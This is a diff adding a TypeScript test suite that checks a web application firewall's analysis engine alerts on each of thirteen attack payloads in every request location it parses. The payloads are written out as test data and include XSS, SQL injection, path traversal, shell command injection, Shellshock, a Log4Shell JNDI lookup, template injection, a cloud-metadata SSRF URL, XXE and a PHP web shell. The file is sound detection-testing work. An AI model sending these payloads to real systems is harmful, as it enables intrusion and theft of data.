@@ -1,0 +1,113 @@
+/**
+ * One payload of each common class in every place a request can carry it, as a WAF test suite
+ * puts it there: each must alert at level 1 wherever it sits. A place the placements stop reading
+ * (or read in a way that hides a payload, as a too-lenient GraphQL check once did) fails here.
+ */
+import { gzipSync } from 'node:zlib';
+import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
+import { buildExchange, type ExchangeSpec } from '@/test/fixtures/traffic';
+
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  'javascript:alert(document.cookie)',
+  "' OR '1'='1' --",
+  '1 UNION SELECT username,password FROM users',
+  '../../../../etc/passwd',
+  ';cat /etc/passwd',
+  '() { :; }; /bin/bash -c id',
+  '${jndi:ldap://x.example/a}',
+  '{{7*7}}{{config.__class__}}',
+  'http://169.254.169.254/latest/meta-data/',
+  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+  '<?php system($_GET["c"]); ?>',
+];
+
+const E = encodeURIComponent;
+const multipart = (part: string) => ({
+  method: 'POST',
+  target: '/upload',
+  requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']] as Array<[string, string]>,
+  requestBody: `--XX\r\n${part}\r\n--XX--\r\n`,
+});
+const json = (body: unknown, type = 'application/json') => ({
+  method: 'POST',
+  target: '/api',
+  requestHeaders: [['Content-Type', type]] as Array<[string, string]>,
+  requestBody: JSON.stringify(body),
+});
+const header = (name: string, value: string) => ({ target: '/', requestHeaders: [[name, value]] as Array<[string, string]> });
+const xmlEscape = (p: string) => p.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
+
+const PLACES: Record<string, (p: string) => Omit<ExchangeSpec, 'id' | 'host'>> = {
+  'path segment': (p) => ({ target: `/files/${E(p)}` }),
+  'path after a script': (p) => ({ target: `/index.php/${p.replace(/ /g, '%20').replace(/#/g, '%23').replace(/\?/g, '%3F')}` }),
+  'matrix parameter': (p) => ({ target: `/items;jsessionid=1;x=${E(p)}/view` }),
+  'query value': (p) => ({ target: `/a?q=${E(p)}` }),
+  'query name': (p) => ({ target: `/a?${E(p)}=1` }),
+  'bare query': (p) => ({ target: `/a?${E(p)}` }),
+  'repeated parameter': (p) => ({ target: `/a?q=1&q=${E(p)}` }),
+  'array parameter': (p) => ({ target: `/a?q[]=${E(p)}` }),
+  'form value': (p) => ({
+    method: 'POST',
+    target: '/f',
+    requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8']],
+    requestBody: `a=1&b=${E(p)}`,
+  }),
+  'form name': (p) => ({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `${E(p)}=1` }),
+  'unlabelled form': (p) => ({ method: 'POST', target: '/f', requestBody: `a=1&b=${E(p)}` }),
+  'text/plain body': (p) => ({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'text/plain']], requestBody: p }),
+  'JSON value': (p) => json({ user: { bio: p } }),
+  'JSON array': (p) => json([1, p]),
+  'JSON key': (p) => json({ a: { b: [{ [p]: 1 }] } }),
+  'vendor JSON type': (p) => json({ data: { attributes: { name: p } } }, 'application/vnd.api+json'),
+  'gzip JSON': (p) => ({ ...json({ name: p }), requestBody: gzipSync(JSON.stringify({ name: p })), requestContentEncoding: 'gzip' }),
+  'JSON in text/plain (a beacon)': (p) => json({ event: 'view', label: p }, 'text/plain;charset=UTF-8'),
+  'GraphQL variable': (p) => json({ query: 'query Q($id: String!) { user(id: $id) { name } }', variables: { id: p } }),
+  'GraphQL literal': (p) => json({ query: `query { user(id: ${JSON.stringify(p)}) { name } }` }),
+  'XML text': (p) => ({
+    method: 'POST',
+    target: '/x',
+    requestHeaders: [['Content-Type', 'text/xml']],
+    requestBody: p.startsWith('<!DOCTYPE') ? p : `<a><b>${xmlEscape(p)}</b></a>`,
+  }),
+  'XML attribute': (p) => ({
+    method: 'POST',
+    target: '/soap',
+    requestHeaders: [['Content-Type', 'application/xml']],
+    requestBody: `<order><item id="${xmlEscape(p)}">x</item></order>`,
+  }),
+  'SOAP CDATA': (p) => ({
+    method: 'POST',
+    target: '/x',
+    requestHeaders: [['Content-Type', 'application/soap+xml']],
+    requestBody: `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><q><![CDATA[${p}]]></q></s:Body></s:Envelope>`,
+  }),
+  'multipart field': (p) => multipart(`Content-Disposition: form-data; name="comment"\r\n\r\n${p}`),
+  'multipart part name': (p) => multipart(`Content-Disposition: form-data; name="${p.replace(/"/g, '%22')}"\r\n\r\nhello`),
+  'multipart file name': (p) =>
+    multipart(`Content-Disposition: form-data; name="f"; filename="${p.replace(/"/g, '%22')}"\r\nContent-Type: text/plain\r\n\r\nhello`),
+  'multipart JSON part': (p) =>
+    multipart(`Content-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ title: p })}`),
+  'cookie value': (p) => header('Cookie', `sid=abc; pref=${p.replace(/;/g, '%3B')}`),
+  'cookie name': (p) => header('Cookie', `${E(p)}=1`),
+  'User-Agent': (p) => header('User-Agent', p),
+  Referer: (p) => header('Referer', `https://a.example.com/?q=${E(p)}`),
+  'X-Forwarded-For': (p) => header('X-Forwarded-For', p),
+  'custom header': (p) => header('X-Api-Version', p),
+  'Accept-Language': (p) => header('Accept-Language', p),
+  Origin: (p) => header('Origin', p),
+  'Authorization in place of a token': (p) => header('Authorization', `Bearer ${p}`),
+};
+
+describe('every payload alerts in every place', () => {
+  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
+  let n = 0;
+  it.each(Object.keys(PLACES))('%s', (place) => {
+    const missed = PAYLOADS.filter((payload) => {
+      const events = engine.analyze(buildExchange({ id: `m${n++}`, host: 'a.example.com', ...PLACES[place]!(payload) }), { sensorId: 's', sensorTags: [] });
+      return !events.some((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
+    });
+    expect(missed).toEqual([]);
+  });
+});
